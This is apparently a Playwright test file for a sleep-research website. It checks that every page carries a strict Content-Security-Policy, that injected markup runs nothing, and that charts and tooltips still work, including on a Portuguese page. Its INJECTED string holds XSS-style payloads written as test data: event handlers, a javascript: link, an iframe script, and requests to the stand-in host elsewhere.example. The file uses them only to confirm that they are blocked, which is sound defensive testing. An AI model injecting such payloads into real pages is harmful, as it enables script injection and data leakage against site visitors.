"""The policy of every page: only the site's own files run, and what gets into a page as text runs nothing, even if it got in as markup."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

if TYPE_CHECKING:
    from helpers.sites import Site
    from helpers.visitor import Visitor

POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">')
SCRIPT = re.compile(r"<script(?P<attributes>[^>]*)>(?P<text>[^<]*)")
INJECTED = """() => {
  window.ran = [];
  const box = document.createElement('div');
  document.body.append(box);
  box.innerHTML = `<img src="data:," onerror="window.ran.push('handler')"><a id="trap" href="javascript:window.ran.push('address')">x</a>
    <svg onload="window.ran.push('svg')"></svg><iframe srcdoc="<script>parent.ran.push('frame')</scr` + `ipt>"></iframe>
    <form id="out" action="https://elsewhere.example/"></form><img src="https://elsewhere.example/pixel.png">`;
  const script = document.createElement('script');
  script.textContent = "window.ran.push('inline')";
  box.append(script);
  const other = document.createElement('script');
  other.src = 'https://elsewhere.example/x.js';
  box.append(other);
  const style = document.createElement('style');
  style.textContent = '@import "https://elsewhere.example/x.css";';
  box.append(style);
  document.getElementById('trap').click();
  document.getElementById('out').submit();
  fetch('https://elsewhere.example/').catch(() => {});
  setTimeout(() => { window.ran.push(new Function("return 'eval'")()); });
}"""


def test_every_page_has_the_policy(sleep_site: Site) -> None:
    """The policy stands before the first script and style of each page, and no script that runs stands in a page itself."""
    for file in sleep_site.pages():
        text = file.read_text(encoding="utf-8")
        found = POLICY.search(text)
        assert found is not None, file
        assert found.start() < min(text.index("<script"), text.index("<link"))
        directives = {name: values for name, *values in (part.split() for part in found[1].split(";"))}
        assert directives["default-src"] == ["'none'"]
        assert directives["script-src"] == ["'self'"]
        assert "<style" not in text, file
        for script in SCRIPT.finditer(text):
            assert "src=" in script["attributes"] or 'type="application/' in script["attributes"], (file, script[0])
        assert not re.search(r"<[^>]+\son[a-z]+\s*=", text), file


def test_markup_that_got_in_runs_nothing(sleep_visitor: Visitor) -> None:
    """Handlers, script addresses, frames, inline scripts, code from text and whatever lies on another host are all refused."""
    page = sleep_visitor.open("studies/")
    before = page.url
    page.evaluate(INJECTED)
    page.wait_for_timeout(300)
    assert page.evaluate("window.ran") == []
    assert page.url == before
    assert any("Content Security Policy" in fault for fault in sleep_visitor.faults)
    page.goto("about:blank")


@pytest.mark.parametrize("path", ["findings/"])
def test_charts_and_their_tips_work_under_the_policy(sleep_visitor: Visitor, path: str) -> None:
    """A chart is redrawn without code from text, and what stands under the pointer is told."""
    page = sleep_visitor.open(path)
    chart = page.locator("figure.chart[data-chart]").first
    chart.scroll_into_view_if_needed()
    chart.dispatch_event("pointerenter")
    expect(chart).to_have_attribute("data-live", "wide", timeout=15_000)
    chart.locator(".chart-wide svg .mark-symbol path, .chart-wide svg .mark-rect path").first.hover(force=True)
    tip = page.locator("#vg-tooltip-element.visible")
    expect(tip).to_be_visible()
    assert tip.evaluate("tip => getComputedStyle(tip).position") == "fixed"
    assert sleep_visitor.faults == []


def test_a_live_chart_is_said_in_the_language_of_its_page(visitor: Visitor) -> None:
    """On a page in Portuguese the chart that the browser redraws says and writes what the one of the build does, and so does its tip."""
    page = visitor.open("pt-br/")
    chart = page.locator("figure.chart[data-chart]").first
    texts = chart.locator(".chart-wide svg text")
    drawn = texts.all_text_contents()
    chart.scroll_into_view_if_needed()
    chart.dispatch_event("pointerenter")
    expect(chart).to_have_attribute("data-live", "wide", timeout=15_000)
    assert sorted(texts.all_text_contents()) == sorted(drawn)
    assert {"Participantes", "Ensaio randomizado"} <= set(drawn)
    chart.locator(".chart-wide svg .mark-symbol path").first.hover(force=True)
    tip = page.locator("#vg-tooltip-element.visible")
    expect(tip).to_contain_text("Delineamento")
    expect(tip).to_contain_text("30,2 %")
    assert visitor.faults == []
